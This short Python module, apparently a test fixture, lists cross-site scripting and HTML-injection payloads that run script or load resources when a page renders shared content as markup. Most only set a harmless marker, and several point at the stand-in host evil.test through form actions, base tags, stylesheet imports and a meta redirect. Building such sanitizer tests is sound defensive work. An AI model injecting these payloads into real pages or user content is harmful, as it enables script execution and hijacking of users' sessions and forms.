"""Texts that a shared file can hold and that run if a page takes them for markup."""

from __future__ import annotations

PAYLOADS = [
    "<img src=x onerror=window.fired=1>",
    "<svg onload=window.fired=1>",
    "<script>window.fired=1</script>",
    "<iframe srcdoc='<script>parent.fired=1</script>'>",
    "<object data='data:image/svg+xml,<svg onload=window.fired=1>'>",
    "javascript:window.fired=1",
    "<a href=javascript:window.fired=1 autofocus onfocus=window.fired=1>x</a>",
    "<style>@import 'http://evil.test/x.css'</style>",
    "<form action=http://evil.test><button autofocus onfocus=window.fired=1>",
    "<base href=http://evil.test/>",
    "<link rel=stylesheet href=http://evil.test/x.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.test'>",
    "</textarea><script>window.fired=1</script>",
]
